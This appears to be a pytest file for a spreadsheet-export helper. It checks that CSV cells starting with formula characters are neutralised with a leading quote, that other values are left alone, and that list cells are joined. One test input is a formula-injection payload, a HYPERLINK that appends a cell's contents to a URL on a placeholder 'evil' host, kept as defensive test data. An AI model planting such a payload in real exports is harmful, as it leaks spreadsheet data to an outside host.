"""Spreadsheet-safe cells: CSV neutralisation and formula-free workbooks."""

from __future__ import annotations

import pandas as pd
import pytest

from casekit.spreadsheet import csv_bytes, csv_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                  "＝1+1", "＋1", "－2", "＠A1"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["价格战", "a=b", "'=x", -2.5, -3, None, True])
def test_other_cells_and_numbers_are_left_alone(value):
    assert csv_cell(value) is value


def test_csv_keeps_numbers_as_numbers_and_quotes_text_and_headers():
    frame = pd.DataFrame({"found": ["-5", "=1+1", "ok"], "diff": [-0.25, 1.0, -3.0], "=h": ["x", "y", "z"]})
    text = csv_bytes(frame).decode("utf-8")
    assert text.startswith("\ufeff")
    assert text.lstrip("\ufeff").splitlines() == ["found,diff,'=h", "'-5,-0.25,x", "'=1+1,1.0,y", "ok,-3.0,z"]


def test_list_cells_are_joined_not_written_as_python_tuples():
    import pandas as pd

    from casekit.spreadsheet import csv_bytes

    frame = pd.DataFrame({"products": [("商务领航·酒店版", "光纤专线"), ()], "n": [1, 2]})
    text = csv_bytes(frame).decode("utf-8-sig")
    assert text.splitlines() == ["products,n", "商务领航·酒店版；光纤专线,1", ",2"]
